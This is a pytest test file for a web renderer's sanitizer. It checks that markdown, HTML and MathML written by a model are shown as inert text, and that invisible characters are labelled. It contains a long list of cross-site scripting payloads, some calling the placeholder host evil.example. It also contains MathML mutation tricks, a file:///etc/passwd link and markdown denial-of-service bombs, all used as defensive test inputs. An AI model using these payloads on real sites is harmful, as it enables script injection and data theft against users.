"""Hostile text: nothing it says becomes markup of ours, nothing of it is hidden, and nothing takes long."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

pytest.importorskip("nh3", reason="the server is not installed: pip install 'prefloop[web]'")

from hypothesis import given, settings
from hypothesis import strategies as st

from prefloop.web.render import BLOCKS, MAX_RENDERED, REL, TAGS, clean, raw, rendered
from prefloop.web.views.formulas import ELEMENTS
from prefloop.web.views.markdown import SCHEMES


class Parsed(HTMLParser):
    """Holds every tag with its attributes, and the text between."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(str(html))  # A Markup would escape what is added to it.
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


ATTRIBUTES = {name: set(allowed) for name, allowed in ELEMENTS.items()} | {name: {"dir"} for name in BLOCKS}
ATTRIBUTES |= {"a": {"href", "rel"}, "ol": {"start", "dir"}, "span": {"class", "title", "dir"}}


def assert_safe(html: str) -> Parsed:
    """Check that there are only allowed tags, attributes and schemes; a span is a formula, an escape, or a label."""
    parsed = Parsed(html)
    assert not parsed.other
    for tag, attributes in parsed.tags:
        assert tag in TAGS, tag
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()), (tag, attributes)
        assert attributes.get("dir") in (None, "ltr" if tag == "span" else "auto")
        for name, value in attributes.items():
            assert tag not in ELEMENTS or re.fullmatch(ELEMENTS[tag][name], str(value)), (tag, attributes)
        if tag == "a":
            assert attributes.get("rel") == REL
            if "href" in attributes:
                assert str(attributes["href"]).split(":")[0].lower() in SCHEMES
        if tag == "span":
            assert attributes.get("class", "math") in ("invisible", "math", "math display", "escape", "info")
            assert re.fullmatch(r"U\+[0-9A-F]{4,6} [a-z0-9 -]+", attributes.get("title") or "U+0000 x")
    return parsed


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style>",
    '<p style="background:url(javascript:alert(1));behavior:expression(alert(1))">x</p>',
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/><meta http-equiv=refresh content=0>",
    # This is DOM clobbering.
    "<a id=status name=cookie href=x><form id=documentElement><input name=attributes></form>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example/x)",
    "[x](/people/p-1/delete)",
    "[x](#status)",
    "[x](file:///etc/passwd)",
    "[x](http:javascript:alert(1))",
    '[x](https://evil.example" onclick="alert(1))',
    '[x](https://evil.example "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://evil.example/<script>alert(1)</script>>",
    "![x](https://evil.example/pixel.png?secret)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "```<script>\nalert(1)\n```",
    '``` "><img src=x onerror=alert(1)>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "|<script>|a|\n|-|:-|\n|<img src=x onerror=alert(1)>|b|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "\u202e<script>\u2066alert(1)\u2069",
    "a\x00b<scr\x00ipt>",
    "\ud800<script>\udfff",
    "</p></div></main><script>alert(1)</script>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}",
]
# This MathML runs things, fetches things, or is read as something else the second time.
MATH_PAYLOADS = [
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><style><img src=x onerror=alert(1)></style></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'>x</math><math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math><mtext><malignmark><svg><script>alert(1)</script></svg></malignmark></mtext></math>",
    "<math><mrow style='background:url(//evil.example)' onclick=alert(1) class=top id=rank>x</mrow></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><semantics><annotation encoding='text/html'><script>alert(1)</script></annotation></semantics></math>",
    "<math><mstyle mathbackground='url(//evil.example)' mathcolor=white>x</mstyle><mphantom>x</mphantom></math>",
    "<math><mspace width='9999em' height='9999em'/><mpadded voffset='-99em'>x</mpadded></math>",
    r"$\text{<img src=x onerror=alert(1)>}$ $\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\href{javascript:alert(1)}{x}$ $\class{top}{x}$ $\style{background:url(//evil.example)}{x}$ $\id{rank}{x}$",
    r"$\unicode{x3c}script\unicode{x3e}$ $\char60$ $\text{&#x0003C;script&#x0003E;}$",
    r"$</math><script>alert(1)</script>$ $$</annotation></semantics></math><img src=x onerror=alert(1)>$$",
    r"$\begin{array}{<script>}x\end{array}$ $\operatorname{<b>}$ $\hspace{1em\" onclick=alert(1)}$",
    r"\begin{align}<svg/onload=alert(1)> &= \text{a\" onmouseover=\"alert(1)} \end{align}",
]
PAYLOADS += MATH_PAYLOADS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_shown_and_does_nothing(payload: str) -> None:
    assert_safe(rendered(payload))
    assert_safe(rendered(payload, typeset=True))
    assert_safe(once := clean(payload.replace("\ud800", "").replace("\udfff", "")))
    assert clean(once) == once
    assert not [tag for tag, _ in assert_safe(raw(payload)).tags if tag != "span"]


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "<" in p and "`" not in p and not set("[\0") & set(p)])
def test_html_is_shown_as_the_text_it_is(payload: str) -> None:
    first = payload.partition("<")[2][:6].strip()
    assert first in Parsed(rendered(payload)).text


def test_no_link_leads_to_this_server_or_runs_anything() -> None:
    links = [attributes for payload in PAYLOADS for tag, attributes in Parsed(rendered(payload)).tags if tag == "a"]
    assert links
    assert all(re.match(r"https?://[^/]|mailto:", link["href"] or "") for link in links if "href" in link)


def test_a_picture_is_its_address() -> None:
    assert rendered("![a cat](https://x.example/cat.png)") == (
        '<p dir="auto">[image: https://x.example/cat.png] a cat</p>\n'
    )


@pytest.mark.parametrize(
    "hidden",
    [
        "[//]: # (hidden words)",
        "[a]: https://x.example 'hidden words'",
        "<!-- hidden words -->",
        "```python hidden words\nx\n```",
        "<div hidden>hidden words</div>",
        "> " * 60 + "hidden words",
        "1. " * 60 + "hidden words",
        "*" * 200 + "hidden words" + "*" * 200,
        "[x](" * 60 + "hidden words",
        "a" * MAX_RENDERED + "hidden words",
        "x\n\n" * 10_000 + "hidden words",
    ],
)
def test_nothing_a_model_wrote_is_left_out(hidden: str) -> None:
    assert "hidden words" in Parsed(rendered(hidden)).text


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("pay \u202eteg", "RLO"),
        ("a\u200bb", "ZWSP"),
        ("a\u200db", "ZWJ"),
        ("a\u200cb", "ZWNJ"),
        ("\ufeffa", "BOM"),
        ("a\u00adb", "SHY"),
        ("a\u2028b", "U+2028"),
        ("\U000e0041\U000e0042", "U+E0041"),
        ("a\x1b[31m", "ESC"),
        ("a\x85b", "U+0085"),
        ("\u3164", "U+3164"),
        ("x\ufe0fy", "U+FE0F"),
        ("\u2066a\u2069", "LRI"),
    ],
)
def test_what_cannot_be_seen_has_a_label(text: str, label: str) -> None:
    for html in (rendered(text), raw(text)):
        assert re.search(
            rf'<span class="invisible" dir="ltr" title="U\+[0-9A-F]+ [a-z0-9 -]+">{re.escape(label)}</span>', html
        )
    assert f">{label}</span>" in rendered(f"[{text}](https://x.example) `{text}`")


def test_labels_stand_outside_of_attributes() -> None:
    parsed = assert_safe(rendered("[a](<https://x.example/\u202ey> '\u202e') <https://x.example/\u200b>"))
    assert [a["href"] for t, a in parsed.tags if t == "a"][0] == "https://x.example/%E2%80%AEy"


def test_emoji_and_joining_scripts_are_left_whole() -> None:
    for text in ("👨\u200d👩\u200d👧", "❤\ufe0f", "1\ufe0f\u20e3", "می\u200cخواهم", "क\u094d\u200dष"):
        assert "invisible" not in raw(text), text
    assert "ZWJ" in raw("👨\u200d\u200d👩") and "ZWNJ" in raw("ا\u200c\u200cا")


def test_a_flood_of_invisible_characters_stays_small_and_is_counted() -> None:
    assert "+99988 invisible" in raw("\u200b" * 100_000)
    assert len(raw("\u200ba" * 100_000)) < 400_000


def test_numbered_lists_keep_their_numbers() -> None:
    assert re.search('<ol [^>]*start="5"', rendered("5. five\n6. six"))


def test_raw_keeps_every_character_that_can_be_seen() -> None:
    text = "  <b>&amp; \"x\" 'y'\n\n\ttab [a](b) **c**  "
    assert Parsed(raw(text)).text == text


BOMBS = {
    "rows filled up": "| a " * 3000 + "\n" + "|-" * 3000 + "\n" + ("| a " * 20 + "\n") * 100,
    "brackets": "[" * 9_000,
    "pictures": "![" * 4_900,
    "emphasis": "*a_ " * 4_900,
    "quotes": "> a\n" * 9_900,
    "lists": "- a\n" * 9_900,
    "tables": "|a" * 70 + "\n" + "|-" * 70 + "\n" + ("|" * 70 + "\n") * 138,
    "backticks": "".join("`" * i + " " for i in range(140)),
    "entities": "&#x61;" * 9_000,
    "nested": "".join("  " * i + "- a\n" for i in range(400)),
    "angles": "<a " * 9_900,
    "spaces": "a" + " " * 190_000 + "b",
    "backslashes": "\\" * MAX_RENDERED,
    "everything": "[*_`<|&!" * 25_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_markdown_bomb_is_over_soon(name: str) -> None:
    start = time.process_time()
    html = rendered(BOMBS[name])
    assert time.process_time() - start < 8, "they take less than one; what grows with the square takes minutes"
    assert len(html) < 12 * len(BOMBS[name]) + 1000


MARKUP = st.lists(
    st.sampled_from(
        list("<>\"'&/\\=:;()[]!*_`#|-~\n\t \u202e\u200b\x00\ud800")
        + ["script", "javascript:", "https://x.example", "img", "svg", "onerror=", "style", "&#x3c;", "a", "href"]
        + [
            "$",
            "$$",
            "\\(",
            "\\)",
            "\\[",
            "\\]",
            "\\text{",
            "}",
            "\\frac",
            "<math>",
            "<mtext>",
            "</math>",
            "<mi dir=rtl>",
        ]
        + ["<semantics>", "<annotation encoding=", "<annotation-xml>", "<mglyph>", "<mo stretchy=true>", "<mtable>"]
        + ["<a href=", "<!--", "-->", "](", "```", "> ", "- ", "1. ", "|-|", "<p>", "</p>", "<table>", "<style>"]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=250, deadline=None)
@given(MARKUP | st.text(max_size=80))
def test_whatever_is_written_the_page_holds_only_allowed_markup(text: str) -> None:
    assert_safe(rendered(text))
    assert_safe(rendered(text, typeset=True))
    assert not [tag for tag, _ in assert_safe(raw(text)).tags if tag != "span"]


@settings(max_examples=250, deadline=None)
@given(MARKUP)
def test_cleaning_html_is_idempotent_and_leaves_only_allowed_markup(html: str) -> None:
    once = clean(html.replace("\ud800", ""))
    assert clean(once) == once
    assert_safe(once)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(["word", "lion", "> ", "- ", "1. ", "# ", "**", "_", "`", "[", "](", ")", "\n", " "])))
def test_rendering_loses_no_word(parts: list[str]) -> None:
    text = " ".join(parts)
    html = rendered(text)
    shown = Parsed(html).text + " ".join(str(a.get("href")) for t, a in Parsed(html).tags if t == "a")
    for word in ("word", "lion"):
        assert shown.count(word) == text.count(word)
